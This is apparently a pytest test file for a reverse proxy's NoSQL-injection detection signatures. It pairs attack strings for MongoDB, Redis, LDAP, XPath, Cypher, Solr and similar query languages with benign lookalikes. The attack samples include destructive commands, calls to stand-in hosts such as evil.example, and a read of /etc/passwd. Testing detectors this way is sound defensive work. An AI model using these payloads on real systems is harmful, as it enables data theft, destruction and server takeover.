"""Injection into MongoDB, Redis, LDAP, XPath and other queries that are not SQL; and what looks like it."""

from __future__ import annotations

from collections.abc import Mapping

import pytest
from hypothesis import given
from hypothesis import strategies as st

from revproxy.filters.inspect.packs.nosql import NOSQL_INJECTION
from revproxy.filters.inspect.value import Part, Value

from . import Samples, check_pack, is_found


def name(text: str) -> Value:
    return Value(Part.NAME, text, text)


def path(text: str) -> Value:
    return Value(Part.PATH, "", text)


SAMPLES: Mapping[str, Samples] = {
    "nosql-01": Samples(
        (
            name("user[$ne]"),
            name("$where"),
            name("user.$gt"),
            name("filter.$or.0.name"),
            name("login[$NIN][]"),
            name("q[$not][$regex]"),
            name("age[%24gte]"),
            Value(Part.COOKIE_NAME, "id[$ne]", "id[$ne]"),
        ),
        (
            name("$filter"),
            name("$orderby"),
            name("user[name]"),
            name("definitions.$ref"),
            name("$schema"),
            name("properties.$set.email"),
            name("price$"),
            name("$index"),
        ),
    ),
    "nosql-02": Samples(
        (
            '{"$gt": ""}',
            '{"username": {"$ne": null}, "password": {"$ne": null}}',
            "true, $where: '1 == 1'",
            "', $or: [ {}, { 'a':'a",
            "[$ne]=1",
            "user[$regex]=.*&pass[$ne]=x",
            "%7B%22$where%22%3A%20%22sleep(100)%22%7D",
            "{ $nin: [''] }",
        ),
        (
            'In Mongo one writes db.users.find({"age": {"$gt": 18}}) for adults',
            '{"$schema": "https://json-schema.org/draft/2020-12/schema", "$ref": "#/x"}',
            "costs $all: nothing",
            "$Text::Wrap::columns = 72;",
            "a[$i] = $ne",
            "the price is $5, $or $6",
            "{name: 'x', and: 1}",
        ),
    ),
    "nosql-03": Samples(
        (
            "' || 1==1//",
            "' || 'a'=='a",
            "' && this.password.match(/.*/)//",
            '" || true || "',
            "'%20%7C%7C%20(function(){return true})()",
            "x'}) || user.admin === 1",
            "|| 1==1",
        ),
        (
            "const x = a || b && c == d",
            "'a' || 'b'",
            "spec.split('||')",
            "if (x === 'a' && y) return;",
            "it's true || false",
            "\"this\" && 'that'",
        ),
    ),
    "nosql-04": Samples(
        (
            "0;return true",
            "';return true;'",
            "1; return(this.admin)",
            "'; return '' == '",
            "x'}; return 1",
            "a;%20return%20tojson(this)",
        ),
        (
            "function f() { return true; }",
            "Yes; return it to me",
            "many happy returns",
            "if (a) x = 1; return false;",
            "5; returns are free",
            "don't; return home",
            "Friday; return 10 am",
            "Refund; return new item",
        ),
    ),
    "nosql-05": Samples(
        (
            "';sleep(5000);'",
            "'; do{x=new Date()}while(1)",
            "a';it=new Date();do{pt=new Date();}while(pt-it<5000);",
            "1;sleep(10000)",
            '"; while(new Date().getTime()<9){}',
            "'||sleep(3000)||'",
        ),
        (
            "const now = new Date();",
            "await sleep(5000)",
            "do you have a new date?",
            "while (i < 3) { i++; }",
            "let's sleep (8 hours)",
            "var x = new Date(); do(x);",
            "sleep(1000) in JavaScript",
            "while (new Date() < end) {} burns the processor",
        ),
    ),
    "nosql-06": Samples(
        (
            "';db.users.drop();'",
            "1;db.dropDatabase()",
            "db.accounts.remove({owner: 7})",
            "' || db.getCollectionNames()[0]=='a",
            "'; printjson(db.users)",
            "x'});db.getCollection('u').find()",
        ),
        (
            "const db = connect(); db.users.find({});",
            "In the shell: db.users.insert({a: 1})",
            "db.sqlite is a file",
            "self.db.execute(query)",
            "firebase.database().ref()",
            "db.users",
            "db.users.remove() is deprecated",
        ),
    ),
    "nosql-07": Samples(
        (
            "1 && this.admin",
            "';this.password.length > 5",
            "' || obj.role=='x",
            "this.password.match(/^a/)",
            "5)||this.x[0]=='a'",
            "mapReduce(this",
        ),
        (
            "this.items.length",
            "if (a && this.items.match(b)) { }",
            "this.digest.match(X) && y",
            "and obj.name is None",
            "do this.and that",
            "'a' || this.b",
            "save() { this.changed.emit(this.value); }",
        ),
    ),
    "nosql-08": Samples(
        (
            "*3\r\n$3\r\nSET\r\n$1\r\na\r\n$1\r\nb\r\n",
            "x%0d%0aCONFIG%20SET%20dir%20/var/www",
            "slaveof evil.example 6379",
            "eval \"return redis.call('get','a')\" 0",
            "MODULE LOAD /tmp/x.so",
            "gopher://127.0.0.1:6379/_*1%0d%0a$8%0d%0aflushall",
            "x\r\nflushall\r\nset a b",
        ),
        (
            "npm config set save true",
            "3 * $3 set",
            "a replica of no one",
            "load the module",
            "eval is evil",
            "set a new password",
            "I set sail and quit my job",
            "Redis FLUSHALL",
        ),
    ),
    "nosql-09": Samples(
        (
            "x\r\nset key 0 900 4\r\ndata",
            "flush_all",
            "get x%0d%0astats",
            "%0d%0aadd%20a%200%200%201%0d%0ab",
            "stats slabs",
            "key flush_all noreply",
        ),
        ("get or set it", "set 3 of 4", "statistics of items", "add a key", "replace response 0 0 1 0", "get and set"),
    ),
    "nosql-10": Samples(
        (
            "*)(uid=*",
            "admin)(&)",
            "*)(|(mail=*",
            "x)(cn=*",
            "*(|(objectclass=*))",
            "bob)(sn>=a",
            "*%29%28uid%3d*%29%29%28%7c%28uid%3d*",
            "*))%00",
            "admin*)((|userpassword=*)",
        ),
        (
            "Hi :) (just joking)",
            "f(a)(b)",
            "(type *)(&x)",
            "mask = (xs >= 1) * (xs <= 2)",
            "a) first (b) second",
            "(see (1) and (2))",
            "*) note (x)",
            "a) (n = 12) b) (n = 15)",
            "nice :) (rating=5)",
        ),
    ),
    "nosql-11": Samples(
        ("*)", "x)))", "(uid=*)", "(|(objectClass=*))", "(&(sAMAccountName=a)", "admin*))"),
        ("(a)", "f(x)", "a * b", ":-)", "(see above)", "f((a))"),
    ),
    "nosql-12": Samples(
        (
            "' or count(/*)=1 or '1'='1",
            "x' or name()='username' or 'x'='y",
            "1 and string-length(name(/*[1]))=4",
            '" or contains(name(.),"a") or "',
            "' and doc('http://evil.example/')='",
            "'%20or%20position()=1%20or%20'",
            "count(//user)",
        ),
        (
            "count(*) and name(x)",
            "SELECT COUNT(*) FROM t",
            "cycler() and concat()",
            "it contains (all of) it",
            "1 or string(5)",
            "not(a) and last(b)",
            "HAVING SUM(x) > 10 AND COUNT(*) > 1",
            "100 * count(*) / total as percent",
        ),
    ),
    "nosql-13": Samples(
        (
            "'] | //user/*[contains(*,'",
            "1] | //user[position()=1]/password",
            "child::node()",
            "' or //user or '",
            "')] | /*/node()",
            "x/text()='a",
            "%27%20or%20@admin=1",
        ),
        (
            "list['a'] | list['b']",
            "and/or",
            "he said 'a' or /usr/bin",
            "https://example.com/a[1]",
            "std::vector<child::type>",
            "/usr/xpg[46]/bin",
            "a[0] | b[1]",
            "the kids' and @anna's photos",
            "/html/body/div[2]/main/section[1]/a[3]",
            "//table[@id='t']//tr[position()>1]/td[2]/text()",
            "//a[1] | //b[2]",
            "//label/following-sibling::*",
        ),
    ),
    "nosql-14": Samples(
        (
            "' return n.x //",
            "'}) detach delete n //",
            "' or 1=1 with 0 as x load csv from 'http://x'",
            "load csv with headers from 'http://evil/' as r",
            "call db.labels()",
            "'}) match (u:user) return u",
            "x' set u.admin = true //",
            "apoc.load.json('http://evil')",
        ),
        (
            "the players' return home",
            "the girls' match (5-0)",
            "students' union call for papers",
            "MATCH (n:User) RETURN n",
            "call me at 5",
            "load the CSV from 'my' disk",
            "take away the customers' delete button",
        ),
    ),
    "nosql-15": Samples(
        (
            "{!xmlparser v='<!DOCTYPE a>'}",
            '_query_:"{!func}x"',
            "shards=evil.example:8983/solr",
            "stream.url=file:///etc/passwd",
            "{!join from=a to=b}x",
            "%7B!frange%20l=1%7Dx",
        ),
        (
            "{!}",
            "{ !important }",
            "stream of water",
            "a shard=1",
            "if (a) {!b}",
            "_query: x",
            '{!tag=brand}brand:"x"',
            "{!ex=brand}brand",
        ),
    ),
    "nosql-16": Samples(
        (
            name("script_fields.a.script"),
            name("query.script.source"),
            name("aggs.a.scripted_metric"),
            name("script.lang"),
            name("runtime_mappings.x"),
            name("script[inline]"),
        ),
        (
            name("script"),
            name("description"),
            name("scripts.source"),
            name("script_name"),
            name("javascript.source"),
            name("subscript.lang"),
        ),
    ),
    "nosql-17": Samples(
        (
            "x' allow filtering--",
            "' using ttl 5",
            "' and a=1 ALLOW FILTERING",
            "1 from system_schema.tables--",
            "=token(id)>5",
            "drop keyspace x;",
        ),
        (
            "we allow filtering of rows",
            "the system.local zone",
            "drop keys here",
            "a token (of love)",
            "using a timestamp",
            "it's here, if not exists",
        ),
    ),
    "nosql-18": Samples(
        (
            path("/_all_dbs"),
            path("/db/_all_docs"),
            path("/_cat/indices"),
            path("/_users/org.couchdb.user:x"),
            path("/x/_design/a/_view/b"),
            "http://127.0.0.1:9200/_cluster/health",
        ),
        (
            path("/all_docs"),
            path("/category/cat"),
            path("/_next/static/a.js"),
            path("/_search.html"),
            "config_utils",
            path("/_nodeinfo"),
        ),
    ),
    "nosql-19": Samples(
        (
            "db.users.find({})",
            'a {"$gt": 1}',
            "$where",
            "x, $ne: 1",
            "db.x.remove()",
            "t.mapReduce(a)",
        ),
        ("the db of users", "$filter", "costs US$gt", "a $5 bill", "map reduce", "$orders"),
    ),
    "nosql-20": Samples(
        (
            "{__schema{types{name}}}",
            "query IntrospectionQuery { a }",
            '{ __type(name: "User") { name } }',
            "query{__schema {queryType{name}}}",
            "fragment a on __Directive { name }",
            "{ __type (name:$x) }",
        ),
        (
            "{ user { __typename name } }",
            "query { schema { name } }",
            "__types",
            "mutation { type(a: 1) }",
            "an introspection query",
            "__schema__",
        ),
    ),
    "nosql-21": Samples(
        ("*:*", "*", "_exists_:password", "a OR name:*", "age:[* TO *]", "/.*/"),
        ("a * b", "name:x", "2 to 3", "cats OR dogs", "5*5", "a/b/c"),
    ),
    "nosql-22": Samples(
        ("$a", "{a}", "(|x", "a)(b", "x || y", "http://x"),
        ("plain text", "a (b) c", "5 & 6", "US$ 5", "a/b", "a: b"),
    ),
    "nosql-23": Samples(
        (
            "//user[position()=1]/password",
            "/users/user[1]/name",
            "//a[contains(@href,'x')]",
            "//password/text()",
            "/accounts/descendant::node()",
            "//user[last()]",
        ),
        (
            "/usr/share/man/man[1-8]",
            "a[1] and b[2]",
            "/html/body",
            "text() and node()",
            "it contains(all) of it",
            "std::vector<child::type>",
        ),
    ),
}


def test_pack() -> None:
    """S-60: each signature is found in attacks on its kind of query, and not in what people write."""
    check_pack(NOSQL_INJECTION, SAMPLES)


@pytest.mark.parametrize(
    "operator", ["ne", "gt", "gte", "lt", "lte", "in", "nin", "regex", "exists", "where", "not", "or"]
)
@pytest.mark.parametrize("form", ["user[${}]", "user.${}", "${}", "a[0][${}]", "a.0.${}.b", "u[${}][]"])
def test_names(operator: str, form: str) -> None:
    """S-60: an operator as the name of a parameter is found at level 1, of a form and of JSON alike."""
    attack = name(form.replace("{}", operator))
    assert any(is_found(each, attack) for each in NOSQL_INJECTION if each.paranoia == 1)


@pytest.mark.parametrize(
    "text",
    [
        'db.users.find({"age": {"$gt": 18}, "$or": [{"a": 1}]}) // adults',
        'To find them: db.users.find({"age": {"$gt": 18}}).sort({name: 1});',
        "if (a && this.items.length > 0 || b === 'x') { return true; }",
        "const { a, b } = this; setTimeout(() => { while (true) break; }, 5000);",
        "(&(objectClass=person)(uid=bob)) is a filter of LDAP",
        "query { user(id: 1) { name __typename posts(first: 10) { edges { node { id } } } } }",
        "/html/body/div[1]/p[2] is a path of XPath, and //a[@href] another",
        "MATCH (n:User {name: 'Bob'})-[:KNOWS]->(m) RETURN n, m LIMIT 5",
        'name:"foo bar" AND age:[1 TO 5] OR title:foo* -other',
        "I'm here :) (and you?) It's 5 && counting || not",
        "Set up Redis, then get the key and set it; config set-up is next.",
        'color: {"a": "$primary", "b": "${theme.accent}"}',
    ],
)
def test_ordinary_text(text: str) -> None:
    """S-60: at level 1 nothing is found in texts about queries, code and prose."""
    assert [each.id for each in NOSQL_INJECTION if each.paranoia == 1 and is_found(each, text)] == []


@given(st.text(st.characters(codec="utf-8")), st.sampled_from([Part.VALUE, Part.NAME, Part.PATH, Part.COOKIE]))
def test_any_text(text: str, part: Part) -> None:
    """S-60: no text is too odd to be looked at."""
    for each in NOSQL_INJECTION:
        is_found(each, Value(part, "q", text))
